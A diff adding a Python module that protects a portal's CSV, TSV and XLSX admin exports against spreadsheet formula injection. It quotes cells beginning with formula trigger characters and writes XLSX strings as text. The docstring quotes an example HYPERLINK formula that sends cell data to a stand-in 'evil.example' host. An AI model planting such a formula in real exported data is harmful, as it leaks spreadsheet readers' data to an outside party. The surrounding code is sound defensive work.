@@ -1,0 +1,100 @@
+"""Open data as spreadsheets: cells that a spreadsheet program cannot run as formulas.
+
+Spreadsheet programs treat a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or with a
+tab, CR or LF before one, or the full-width forms of these signs) as a formula, so a member's
+address such as ``=HYPERLINK("http://evil.example/?x="&A1,"Klik")`` would run in the reader's
+spreadsheet. Every CSV export goes through :func:`spreadsheet_cell`, which puts a ``'`` in
+front of such text: spreadsheet programs show the text as it is, and a program reading the
+file as data sees the added quote only on those rare cells. Numbers stay numbers (``-12.5`` is
+not text and not a formula).
+
+XLSX knows text from formulas by the cell's type, so :class:`XLSXExport` writes every string
+as an explicit text cell, unchanged (openpyxl would otherwise store ``"=..."`` as a formula).
+
+JSON exports are data for programs, not spreadsheets: they stay exactly as stored.
+
+The admin's import-export uses :data:`ADMIN_EXPORT_FORMATS` (see
+``network_portal.admin.ImportExportMixin``).
+"""
+
+from __future__ import annotations
+
+import io
+import re
+from collections.abc import Iterable
+from decimal import Decimal
+
+from import_export.formats import base_formats
+from openpyxl import Workbook
+from openpyxl.styles import Font
+
+from network_portal.text import clean_text
+
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")
+
+
+def spreadsheet_cell(value):
+    """``value`` safe to put in a CSV cell: text a spreadsheet would run gets a leading ``'``."""
+    if (
+        isinstance(value, str)
+        and value.startswith(FORMULA_TRIGGERS)
+        and not _NUMBER.fullmatch(value)
+    ):
+        return "'" + value
+    return value
+
+
+def spreadsheet_row(row):
+    """A CSV row (list or dict) with every cell passed through :func:`spreadsheet_cell`."""
+    if isinstance(row, dict):
+        return {key: spreadsheet_cell(value) for key, value in row.items()}
+    return [spreadsheet_cell(value) for value in row]
+
+
+def xlsx_bytes(headers: list[str], rows: Iterable[Iterable]) -> bytes:
+    """An XLSX workbook of one sheet; strings are text cells, never formulas."""
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.append(headers)
+    for cell in sheet[1]:
+        cell.font = Font(bold=True)
+    sheet.freeze_panes = "A2"
+    for row_number, row in enumerate(rows, start=2):
+        for column, value in enumerate(row, start=1):
+            cell = sheet.cell(row=row_number, column=column)
+            if isinstance(value, str):
+                # XLSX cannot hold control characters at all (openpyxl refuses them).
+                cell.value = clean_text(value)
+                cell.data_type = "s"
+            elif isinstance(value, Decimal):
+                cell.value = float(value)
+            else:
+                cell.value = value
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+class _SafeTextFormat:
+    def export_data(self, dataset, **kwargs):
+        safe = dataset.__class__(headers=dataset.headers, title=dataset.title)
+        for row in dataset:
+            safe.append(spreadsheet_row(row))
+        return super().export_data(safe, **kwargs)
+
+
+class CSVExport(_SafeTextFormat, base_formats.CSV):
+    pass
+
+
+class TSVExport(_SafeTextFormat, base_formats.TSV):
+    pass
+
+
+class XLSXExport(base_formats.XLSX):
+    def export_data(self, dataset, **kwargs):
+        return xlsx_bytes(list(dataset.headers or []), list(dataset))
+
+
+ADMIN_EXPORT_FORMATS = [CSVExport, XLSXExport, TSVExport, base_formats.JSON]
